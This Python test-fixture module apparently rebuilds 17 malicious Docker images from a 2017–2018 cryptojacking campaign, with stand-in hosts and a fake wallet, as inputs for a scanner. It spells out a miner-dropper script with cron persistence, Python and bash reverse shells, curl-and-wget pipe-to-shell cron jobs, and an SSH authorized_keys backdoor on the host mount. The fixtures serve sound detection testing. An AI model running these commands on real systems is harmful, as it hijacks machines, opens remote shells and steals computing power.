"""Inert reconstructions of the 17 images that docker123321 offered in 2017 and 2018.

What is known of each stands beside it; hosts, wallets and keys are stand-ins from documentation ranges and a test network, programs only exit.
`expected` names the category of the finding that must convict the image, and where it must stand.
"""
import base64

from images import File, Image, cryptonote_address, layer, miner_elf

HOST = "203.0.113.196"  # stands for 104.225.147.196
WALLET = cryptonote_address("docker123321")
KEY = "ssh-rsa " + base64.b64encode(b"\0\0\0\x07ssh-rsa\0\0\0\x03\x01\0\x01\0\0\x01\x01\0" + bytes(range(256))).decode() + " root@host.example"

BASE = layer(
    File("bin", folder=True), File("etc", folder=True), File("etc/os-release", 'ID=debian\nVERSION_ID="9"\nPRETTY_NAME="Debian GNU/Linux 9 (stretch)"\n'),
    File("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"), File("usr/bin", folder=True), File("var/tmp", folder=True, mode=0o1777))

# The script behind logo3.jpg, after the published capture, with the host replaced.
LOGO = f"""#!/bin/sh
ps auxf|grep -v grep|grep "stratum"|awk '{{print $2}}'|xargs kill -9
ps auxf|grep -v grep|grep cryptonight|awk '{{print $2}}'|xargs kill -9
ps auxf|grep -v grep|grep ysjswirmrm|awk '{{print $2}}'|xargs kill -9
crontab -r || true && echo "* * * * * curl -s http://{HOST}:8220/logo3.jpg | bash -s" >> /tmp/cron || true && crontab /tmp/cron || true && rm -rf /tmp/cron
curl -o /var/tmp/config.json http://{HOST}:8220/config_1.json
curl -o /var/tmp/jaav http://{HOST}:8220/gcc
chmod 777 /var/tmp/jaav
cd /var/tmp
proc=`grep -c ^processor /proc/cpuinfo`
cores=$((($proc+1)))
num=$(($cores*3))
/sbin/sysctl -w vm.nr_hugepages=`$num`
nohup ./jaav -c config.json -t `echo $cores` >/dev/null &
echo "runing....."
"""

CONFIG = """{
  // one of the two pools answers
  "algo": "cryptonight", "av": 0, "background": true, "donate-level": 1, "max-cpu-usage": 90, "safe": false,
  "pools": [ { "url": "stratum+tcp://pool.miner.example:3333", "user": "%s", "pass": "x", "keepalive": true, "nicehash": false } ]
}
""" % WALLET


def cron_to_host(job, target="/mnt/etc/crontab"):
    return ["/bin/sh", "-c", f'echo "{job}" >> {target}']


PYTHON_SHELL = ("python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                f's.connect((\\"{HOST}\\",3333));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\\"/bin/sh\\",\\"-i\\"])\'')
FETCH_CRON = f"* * * * * curl -s http://{HOST}:8220/logo3.jpg | bash -s"


def host_cron(name, job):
    """The command stands in the config: no file of the image carries anything."""
    return Image([BASE], cmd=cron_to_host(job)), {"category": {"persistence", "dropper", "reverse-shell"}, "path": "config.Cmd", "layer": None}


def miner_inside(name, program, arguments):
    """The miner lies in the second layer under an innocent name and the entrypoint starts it."""
    layers = [BASE, layer(File(f"var/tmp/{program}", miner_elf(), mode=0o755), File("var/tmp/config.json", CONFIG))]
    return Image(layers, entrypoint=[f"/var/tmp/{program}"] + arguments), {"category": {"miner"}, "path": f"/var/tmp/{program}", "layer": 1}


def fetched(name, url):
    """A picture or script is fetched and run when the container starts."""
    layers = [BASE, layer(File("run.sh", f"#!/bin/sh\nwhile true; do\n  curl -s {url} | bash -s\n  sleep 300\ndone\n", mode=0o755))]
    return Image(layers, entrypoint=["/run.sh"]), {"category": {"dropper"}, "path": "/run.sh", "layer": 1}


def images():
    """{name: (Image, expected)} of all 17."""
    ssh = Image([BASE, layer(File("start.sh", f"#!/bin/sh\nmkdir -p /mnt/root/.ssh\necho '{KEY}' >> /mnt/root/.ssh/authorized_keys\n", mode=0o755))],
                cmd=["/bin/sh", "/start.sh"])
    logo = Image([BASE, layer(File("opt/logo3.jpg", LOGO), File("opt/start.sh", "#!/bin/bash\nbash /opt/logo3.jpg\n", mode=0o755))],
                 entrypoint=["/opt/start.sh"])
    return {
        "tomcat": host_cron("tomcat", "* * * * * root " + PYTHON_SHELL),
        "tomcat11": host_cron("tomcat11", f"* * * * * root bash -i >& /dev/tcp/{HOST}/3333 0>&1"),
        "tomcat22": (ssh, {"category": {"persistence"}, "path": "/start.sh", "layer": 1}),
        "kk": host_cron("kk", FETCH_CRON),
        "mysql": host_cron("mysql", FETCH_CRON),
        "data": host_cron("data", f"*/5 * * * * root wget -q -O - http://{HOST}:8220/logo8.jpg | sh"),
        "mysql0": host_cron("mysql0", f"* * * * * root curl -s http://{HOST}:8220/logo3.jpg | bash -s"),
        "cron": (logo, {"category": {"persistence", "dropper", "miner"}, "path": "/opt/logo3.jpg", "layer": 1}),
        "cronm": miner_inside("cronm", "jaav", ["-c", "/var/tmp/config.json"]),
        "cronnn": fetched("cronnn", f"http://{HOST}:8220/mr.sh"),
        "t1": miner_inside("t1", "gcc", ["-o", "pool.miner.example:3333", "-u", WALLET, "-p", "x"]),
        "t2": miner_inside("t2", "minerd", ["-a", "cryptonight", "-o", "stratum+tcp://pool.miner.example:3333", "-u", WALLET, "-p", "x"]),
        "mysql2": miner_inside("mysql2", "mysqld", ["-c", "/var/tmp/config.json"]),
        "mysql3": miner_inside("mysql3", "jaav", ["-c", "/var/tmp/config.json", "-t", "4"]),
        "mysql4": fetched("mysql4", f"http://{HOST}:8220/logo5.jpg"),
        "mysql5": miner_inside("mysql5", "java", ["-o", "pool.miner.example:5555", "-u", WALLET, "-p", "x"]),
        "mysql6": miner_inside("mysql6", "gcc", ["-c", "/var/tmp/config.json"]),
    }


def clean_image():
    app = layer(File("app/server.py", "#!/usr/bin/env python3\nimport http.server\nhttp.server.test(http.server.SimpleHTTPRequestHandler, port=8080)\n", mode=0o755),
                File("app/start.sh", "#!/bin/sh\nset -e\necho \"starting on $PORT\"\nexec python3 /app/server.py\n", mode=0o755),
                File("usr/share/doc/app/README", "Monitoring finds miners such as xmrig. Reverse shells look like\n  bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"))
    return Image([BASE, app], entrypoint=["/app/start.sh"], env=["PATH=/usr/local/bin:/usr/bin:/bin", "PORT=8080"])
